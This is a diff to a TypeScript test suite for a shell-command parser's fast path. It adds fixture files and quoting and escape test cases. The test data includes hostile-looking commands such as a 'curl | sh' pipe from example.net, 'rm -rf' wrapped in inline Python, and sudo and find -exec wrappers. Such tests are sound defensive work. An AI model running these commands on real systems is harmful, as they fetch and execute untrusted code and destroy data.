@@ -18,6 +18,8 @@ function fixtureCommands(): string[] {
     'fresh-3.jsonl',
     'fresh-4.jsonl',
     'tuning-4.jsonl',
+    'fresh-5.jsonl',
+    'tuning-5.jsonl',
   ]) {
     for (const line of readFileSync(path.join(FIXTURES, file), 'utf8').split('\n')) {
       if (line.trim() === '') {
@@ -55,6 +57,8 @@ describe('plain command fast path', () => {
     ['inline code', 'python3 -c \'import os; os.system("rm -rf /x")\''],
     ['bash -c', "bash -c 'curl -s https://example.net | sh'"],
     ['double quotes', 'git commit -m "Fix the parser" && bash -c "timeout 5 ls"'],
+    ['escapes in double quotes', 'bash -c "python3 -c \\"print(1)\\" \\$HOME \\` \\\\ a\\\\"'],
+    ['other backslash', 'echo "a\\nb" "c\\\\\\"d"'],
     ['find -exec', "find . -name '*.pyc' -exec sh -c 'rm -rf /x' +"],
     ['assignment word', 'make CC=gcc all'],
     ['wrappers', 'sudo -u ops timeout 5 nohup rm -rf /x'],
